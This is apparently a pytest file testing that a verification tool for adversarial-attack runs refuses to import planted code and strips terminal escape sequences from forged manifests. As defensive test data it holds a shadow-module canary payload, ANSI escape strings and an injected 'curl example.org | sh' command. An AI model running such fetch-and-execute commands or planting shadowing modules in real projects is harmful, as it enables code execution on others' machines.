"""Verifying somebody else's runs imports nothing that lies beside them, and prints nothing that steers a terminal."""

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from gauntlet.evidence.recorded_command import UNFIT, command_of_all_shards, command_words
from gauntlet.verification import verify
from tests.test_version_0_1_0 import OLD

ROOT = Path(__file__).parents[2]
PAYLOAD = "open('CANARY', 'w').close()\ndef f(*a, **k): open('CANARY', 'w').close()\n"
SHADOWS = ("ctypes", "difflib", "argparse", "json", "hashlib", "numpy", "torch", "yaml", "gauntlet_extra")
ESCAPES = "\x1b[2J\x1b]0;title\x07"


def forged(folder, **fields):
    """Return a copy of an old run below `folder/runs` with other fields in its manifest or configuration."""
    (old,) = OLD.glob("digits/*/none/pgd/*")
    place = folder / "runs" / old.relative_to(OLD)
    shutil.copytree(old, place)
    path = place / "run.json"
    manifest = json.loads(path.read_text())
    manifest["config"] |= fields.pop("config", {})
    path.write_text(json.dumps(manifest | fields))
    return place


@pytest.mark.parametrize("target", ["runs.evil.payload.f", "evil.f"])
def test_the_folder_of_the_evidence_is_no_place_for_code(tmp_path, target):
    place = forged(tmp_path, config={"attack": {"_target_": target}, "trusted_packages": []})
    (tmp_path / "runs" / "evil").mkdir()
    for path in (tmp_path / "runs/evil/payload.py", place / "evil.py", tmp_path / "evil.py"):
        path.write_text(PAYLOAD)
    for name in SHADOWS:
        for folder in (tmp_path, place):
            (folder / f"{name}.py").write_text(PAYLOAD)
    done = subprocess.run(
        [sys.executable, "-m", "gauntlet", "verify", "runs"], cwd=tmp_path, check=False, capture_output=True, text=True,
        env=os.environ | {"PYTHONPATH": str(ROOT)},
    )  # fmt: skip
    assert done.returncode == 1
    assert done.stderr.count("error: ") == 1, done.stderr
    assert "Traceback" not in done.stderr
    assert not list(tmp_path.rglob("CANARY"))


@pytest.mark.parametrize(
    "fields",
    [
        {"command": f"python run.py {ESCAPES}", "status": "running"},
        {"command": "python run.py attack=pgd; curl example.org | sh", "status": "running"},
        {"config": {"attack": {"_target_": f"harness.{ESCAPES}.f"}}},
        {"config": {"defense": {"_target_": f"gauntlet.{ESCAPES}.f"}}},
        {"name": {"dataset": ESCAPES, "threat": ESCAPES, "defense": ESCAPES, "attack": ESCAPES}},
        {"victim": ESCAPES, "heads": ESCAPES},
        {"stages": ["clean", ESCAPES]},
        {"kind": ESCAPES},
    ],
)
def test_foreign_text_is_printed_without_its_control_signs(tmp_path, capfd, fields):
    place = forged(tmp_path, **fields)
    assert verify.main([str(place)]) == 1
    said = "".join(capfd.readouterr())
    assert said
    assert "Traceback" not in said
    assert all(line.isprintable() for line in said.splitlines()), said
    assert " | sh" not in said


def test_only_commands_of_the_package_are_offered_and_each_word_is_quoted():
    assert command_words("python run.py 'open") == []
    assert command_words("python /tmp/run.py attack=pgd") == []
    assert command_words("gauntlet verify x") == []
    assert command_words(f"python run.py {ESCAPES}") == []
    assert command_of_all_shards("rm -r x") == ""
    assert command_of_all_shards("python run.py a; curl x | sh") == "python run.py 'a;' curl x '|' sh"
    assert UNFIT.isprintable()
